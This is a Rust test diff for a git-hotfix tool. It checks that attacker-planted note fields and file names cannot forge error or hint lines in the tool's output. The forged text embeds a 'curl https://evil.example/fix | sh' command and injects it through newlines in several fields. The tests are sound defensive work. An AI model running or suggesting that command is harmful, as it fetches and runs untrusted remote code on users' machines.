@@ -496,3 +496,96 @@ fn a_note_naming_computed_fields_cannot_put_a_second_key_in_json() {
         &sandbox.hotfix(["status", "--json"]).success(),
     ));
 }
+
+/// Lines a forged note field would print as if they were git-hotfix's own.
+const FORGED: &str =
+    "\nerror: notes corrupt\nhint: repair with: curl https://evil.example/fix | sh";
+
+/// Fails when `output` has a line the note forged; the text must be there, escaped.
+fn assert_not_forged(output: &str, what: &str) {
+    assert!(
+        !output.lines().any(
+            |line| line.starts_with("error: notes corrupt") || line.starts_with("hint: repair")
+        ),
+        "{what} printed a forged line:\n{output}"
+    );
+    assert!(
+        output.contains("\\nerror: notes corrupt\\nhint: repair with: curl"),
+        "{what} does not show the field escaped:\n{output}"
+    );
+}
+
+#[test]
+fn note_fields_cannot_forge_error_or_hint_lines() {
+    let sandbox = Sandbox::new();
+    let attacker = sandbox.clone_named("attacker");
+    let note = |id: &str, created: &str, branch: &str| {
+        serde_json::json!({
+            "schema": 1, "hotfix_id": id, "severity": "P1", "issue": "Login",
+            "created": created, "owner": "Eve <eve@example.com>", "branch": branch,
+            "base_ref": "origin/main", "base_commit": attacker.rev("main"), "status": "open",
+            "events": [],
+        })
+    };
+    // Started "earlier" under the id the victim's hotfix will have: the victim's is renumbered,
+    // and the warning names the attacker's branch.
+    attacker.add_note(
+        "planted 1",
+        &note(
+            "HOTFIX-001",
+            "2026-01-01T00:00:00Z",
+            &format!("hotfix/x{FORGED}"),
+        ),
+    );
+    // A note no version can read: the warning quotes the bad value.
+    let mut bad = note("HOTFIX-050", "2026-01-02T00:00:00Z", "hotfix/y");
+    bad["severity"] = format!("P9{FORGED}").into();
+    attacker.add_note("planted 2", &bad);
+    // A note whose base commit is not one: the error names it.
+    let mut base = note("HOTFIX-060", "2026-01-03T00:00:00Z", "hotfix/z");
+    base["base_commit"] = format!("0000{FORGED}").into();
+    attacker.add_note("planted 3", &base);
+    attacker.git(["push", "--quiet", "origin", "refs/notes/hotfix"]);
+
+    sandbox.start("auth", &["--severity", "P1", "--no-sync"]);
+    let synced = sandbox.hotfix(["sync"]).success();
+    assert_not_forged(&crate::common::stderr(&synced), "sync");
+    assert!(crate::common::stderr(&synced).contains("HOTFIX-001 (hotfix/auth) is now HOTFIX-061"));
+    let listed = sandbox.hotfix(["list", "--all"]).success();
+    assert_not_forged(&crate::common::stderr(&listed), "list");
+    assert_not_forged(&crate::common::stdout(&listed), "list");
+    let status = sandbox.hotfix(["status", "--id", "HOTFIX-060"]).code(1);
+    assert_not_forged(&crate::common::stderr(&status), "status");
+    let shown = sandbox.hotfix(["show", "HOTFIX-001"]).success();
+    assert_not_forged(&crate::common::stdout(&shown), "show");
+    let verbose = sandbox.hotfix(["--verbose", "cancel", "HOTFIX-001", "--yes"]);
+    assert_not_forged(&crate::common::stderr(&verbose), "cancel --verbose");
+}
+
+#[test]
+fn committed_file_names_cannot_forge_lines_in_reports() {
+    let sandbox = Sandbox::new();
+    let id = sandbox.fixed_hotfix("auth", &[]);
+    sandbox.git(["push", "--quiet", "origin", "hotfix/auth"]);
+    sandbox.hotfix(["sync"]).success();
+
+    let attacker = sandbox.clone_named("attacker");
+    attacker.git(["switch", "--quiet", "hotfix/auth"]);
+    attacker.write(&format!("settings{FORGED}.ini"), "x = 1\n");
+    push_as_attacker(
+        &attacker,
+        "hotfix/auth",
+        &format!("{id}: Tune the settings\n\nerror: notes corrupt\nhint: repair with: curl"),
+    );
+
+    sandbox.git(["pull", "--quiet", "--ff-only", "origin", "hotfix/auth"]);
+    for report in ["release-notes", "postmortem"] {
+        let out = crate::common::stdout(&sandbox.hotfix([report]).success());
+        assert_not_forged(&out, report);
+    }
+    let dir = sandbox.dir.path().join("report.md");
+    sandbox
+        .hotfix(["postmortem", "--output", dir.to_str().unwrap()])
+        .success();
+    assert_not_forged(&fs::read_to_string(&dir).unwrap(), "postmortem --output");
+}
